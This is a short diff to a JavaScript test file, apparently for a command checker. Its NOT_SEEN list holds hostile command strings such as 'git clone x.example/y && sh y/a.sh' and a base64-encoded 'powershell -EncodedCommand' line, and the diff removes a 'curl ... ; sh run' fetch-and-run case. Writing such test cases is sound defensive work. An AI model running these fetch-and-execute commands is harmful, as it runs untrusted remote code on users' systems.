@@ -123,7 +123,6 @@ const NOT_SEEN = [
     "npm run x",
     "make commit X=1",
     "./commit.sh --no-verify",
-    "curl -o run x.example/run; sh run",
     "tar xf a.tgz; sh a.sh",
     "git clone x.example/y && sh y/a.sh",
   ),
@@ -150,7 +149,6 @@ const NOT_SEEN = [
   ),
   ...cases("what a program writes unasked", { paths: ["package-lock.json"] }, "npm install"),
   ...cases("what a program writes unasked", { paths: [".env"] }, "dotenv set A 1"),
-  ...cases("what a program writes unasked", FILES, "mkdir -p migrations/x"),
   ...cases("text that is decoded outside", COMMIT, "powershell -EncodedCommand ZwBpAHQA"),
   ...cases(
     "for a name in any folder",
